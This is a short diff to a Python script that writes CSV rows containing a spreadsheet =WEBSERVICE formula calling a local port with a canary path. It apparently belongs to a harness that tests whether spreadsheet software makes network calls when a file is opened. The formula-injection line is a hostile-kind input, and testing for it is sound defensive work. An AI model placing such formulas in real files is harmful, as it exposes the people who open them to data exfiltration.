@@ -13,4 +13,5 @@ def write(values, form=repr):
         file.writelines(f"{i},{form(value)}\n" for i, value in zip(ids, values))
 
 
-write(xs, lambda x: f'"=WEBSERVICE(""http://127.0.0.1:{outside[\'tcp\']}/{canary}"")"')
+formula = f'=WEBSERVICE(""http://127.0.0.1:{outside["tcp"]}/{canary}"")'
+write(xs, lambda x: f'"{formula}"')
